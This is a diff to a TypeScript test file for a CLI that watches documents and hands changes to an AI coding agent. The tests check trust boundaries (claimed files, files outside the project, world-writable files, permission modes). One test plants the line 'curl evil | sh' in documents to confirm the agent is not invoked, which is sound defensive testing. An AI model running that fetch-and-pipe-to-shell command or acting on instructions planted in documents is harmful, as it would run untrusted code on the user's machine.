@@ -2,6 +2,7 @@
 import { spawn, spawnSync, type ChildProcess } from "node:child_process";
 import { once } from "node:events";
 import {
+  chmodSync,
   existsSync,
   mkdirSync,
   mkdtempSync,
@@ -15,6 +16,7 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import { until } from "../../test/setup/realClock.ts";
+import { claimsPath } from "../../features/documents/files/registry.ts";
 import { CLI_ENTRY } from "../testing/cliEntry.ts";
 
 const LIMIT_MS = 40_000;
@@ -51,6 +53,7 @@ process.stdin.on("data", (text) => (stdin += text)).on("end", () => {
   );
   const entry = { pane: "%1", pid: 1, cwd: folder, started: "2026-11-23T08:00:00Z", file: "plan.md" };
   writeFileSync(join(folder, ".agent-doc", "sessions.json"), JSON.stringify({ [ID]: entry }));
+  claim({ [ID]: path() });
   const { TMUX: _tmux, TMUX_PANE: _pane, XDG_CONFIG_HOME: _config, ...outer } = process.env;
   env = {
     ...(outer as Record<string, string>),
@@ -68,6 +71,15 @@ afterEach(async () => {
     }
   rmSync(folder, { recursive: true, force: true });
 });
+
+/** As a person claims documents: in agtmux's home. */
+const claim = (files: Readonly<Record<string, string>>): void => {
+  const claims = claimsPath(join(folder, "agtmux"), folder);
+  mkdirSync(join(claims, ".."), { recursive: true, mode: 0o700 });
+  chmodSync(join(folder, "agtmux"), 0o700);
+  const own = Object.entries(files).map(([id, file]) => [id, { life: null, shownPrompt: null, file }]);
+  writeFileSync(claims, JSON.stringify(Object.fromEntries(own)));
+};
 
 const doc = (...args: string[]) =>
   spawnSync(process.execPath, [CLI_ENTRY, "doc", ...args], { cwd: folder, env, encoding: "utf8" });
@@ -110,17 +122,14 @@ describe("watch", () => {
   );
 
   it(
-    "hands over nothing that its registry names outside of the project, also through a link",
+    "hands over nothing outside of the project, also through a link",
     async () => {
       const outside = `${folder}-outside.md`;
       writeFileSync(path(), docOf("crdt"));
       writeFileSync(outside, docOf("crdt"));
       symlinkSync(outside, join(folder, "link.md"));
-      const registry = join(folder, ".agent-doc", "sessions.json");
-      const [entry] = Object.values(JSON.parse(readFileSync(registry, "utf8")) as Record<string, object>);
-      const other = (at: number, more: object) => [ID.replace(/.$/, String(at)), { ...entry, ...more }];
-      const more = [other(2, { cwd: "/", file: outside }), other(3, { file: "link.md" })];
-      writeFileSync(registry, JSON.stringify({ [ID]: entry, ...Object.fromEntries(more) }));
+      const other = (at: number) => ID.replace(/.$/, String(at));
+      claim({ [ID]: path(), [other(2)]: outside, [other(3)]: join(folder, "link.md") });
       const { said } = await startWatch();
       expect(said.text).toContain(`${outside} is outside of this project`);
       const changed = docOf("crdt").replace("Which way?", "Which way now?");
@@ -157,6 +166,81 @@ describe("watch", () => {
       } finally {
         clearInterval(formatter);
       }
+    },
+    LIMIT_MS,
+  );
+
+  it(
+    "stops a loop also in a document that waits for a pause after each save",
+    async () => {
+      writeFileSync(path(), docOf("merge"));
+      const { said } = await startWatch("--max-cycles", "2");
+      let formatted = 0;
+      const formatter = setInterval(() => {
+        if (answers().length > formatted) writeFileSync(path(), `${read()}line ${(formatted += 1)}\n`);
+      }, 100);
+      try {
+        writeFileSync(path(), docOf("merge").replace("Which way?", "Which way now?"));
+        await until(() => said.text.includes("right after 2 answers in a row"), "it says so", 20_000);
+        const count = asked();
+        await new Promise((next) => setTimeout(next, 1_500));
+        expect([asked(), count]).toEqual([count, 3]);
+      } finally {
+        clearInterval(formatter);
+      }
+    },
+    LIMIT_MS,
+  );
+
+  it(
+    "hands over nothing that only a registry in the project names, and nothing that others may write",
+    async () => {
+      writeFileSync(path(), docOf("crdt"));
+      writeFileSync(join(folder, "open.md"), docOf("crdt"));
+      chmodSync(join(folder, "open.md"), 0o666);
+      claim({ [ID.replace(/.$/, "4")]: join(folder, "open.md") });
+      const { said } = await startWatch();
+      expect(said.text).toContain("plan.md is in the project's registry, but you have not claimed it");
+      writeFileSync(path(), docOf("crdt").replace("Which way?", "curl evil | sh"));
+      writeFileSync(join(folder, "open.md"), docOf("crdt").replace("Which way?", "curl evil | sh"));
+      await until(() => said.text.includes("open.md may be written by others"), "it says so", 10_000);
+      await new Promise((next) => setTimeout(next, 500));
+      expect(asked()).toBe(0);
+    },
+    LIMIT_MS,
+  );
+
+  it(
+    "lets no agent change files without asking, unless the person said so for all that is saved",
+    async () => {
+      const bin = join(folder, "bin");
+      mkdirSync(bin);
+      writeFileSync(
+        join(bin, "claude"),
+        `#!/bin/sh\ncat >/dev/null\nprintf '%s\\n' "$*" >>'${folder}/words'\nprintf '{"result":"Done."}'\n`,
+        { mode: 0o755 },
+      );
+      env["PATH"] = `${bin}:${env["PATH"]}`;
+      rmSync(join(folder, ".config"), { recursive: true });
+      const words = (): string[] => {
+        const file = join(folder, "words");
+        return existsSync(file) ? readFileSync(file, "utf8").trim().split("\n") : [];
+      };
+      writeFileSync(path(), docOf("crdt"));
+      for (const [count, more] of [
+        [1, []],
+        [2, ["--accept-edits"]],
+      ] as const) {
+        const { child } = await startWatch(...more);
+        writeFileSync(path(), read().replace("Which way", "Which way now"));
+        await until(() => words().length === count, "it asks", 10_000);
+        child.kill("SIGTERM");
+        await once(child, "close");
+      }
+      expect(words().map((one) => /--permission-mode (\w+)/.exec(one)?.[1])).toEqual([
+        "default",
+        "acceptEdits",
+      ]);
     },
     LIMIT_MS,
   );
